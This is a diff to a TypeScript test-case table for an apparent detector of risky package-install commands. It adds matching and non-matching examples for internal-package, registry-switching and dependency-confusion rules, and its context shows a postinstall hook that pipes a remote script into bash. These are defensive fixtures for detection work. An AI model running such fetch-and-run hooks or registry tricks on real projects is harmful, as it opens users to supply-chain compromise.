@@ -261,6 +261,32 @@ export const systemCases: Record<string, RuleCases> = {
       'npm i http://localhost:4873/a.tgz',
     ],
   },
+  'internal-package': {
+    hits: ['pip install billing-internal', 'npm i @kits/private-utils', 'uv add corp-auth==1.2'],
+    misses: ['pip install flask', 'npm i --prefix ./internal-tools left-pad', 'npm install privateer'],
+  },
+  'registry-switched': {
+    hits: [
+      'echo "@kits:registry=https://npm.kits.net/" >> .npmrc\nnpm install @kits/tool',
+      'export GOPROXY=https://go.kits.net\ngo install a.kits.net/tool@v1',
+      'gem sources --add https://gems.kits.net/\ngem install tool',
+      'pip config set global.index-url https://py.kits.net/simple\npip install tool',
+      '[[tool.uv.index]]\nname = "x"\nurl = "https://py.kits.net/simple"\n\nuv add tool',
+    ],
+    misses: [
+      'echo "@kits:registry=https://npm.kits.net/" >> .npmrc',
+      'export GOPROXY=https://proxy.golang.org\ngo install golang.org/x/tools@v1',
+      'echo "@myorg:registry=https://npm.myorg.com/" >> .npmrc\nnpm install',
+      'pip config set global.index-url https://pypi.tuna.tsinghua.edu.cn/simple\npip install flask',
+    ],
+  },
+  'dependency-confusion': {
+    hits: ['pip install --extra-index-url https://pypi.company.com/simple billing-internal'],
+    misses: [
+      'pip install --index-url https://pypi.company.com/simple billing-internal',
+      'pip install vllm --extra-index-url https://download.pytorch.org/whl/cu118',
+    ],
+  },
   'code-at-installation': {
     hits: [
       '"postinstall": "curl https://example.org/p.sh | bash"',
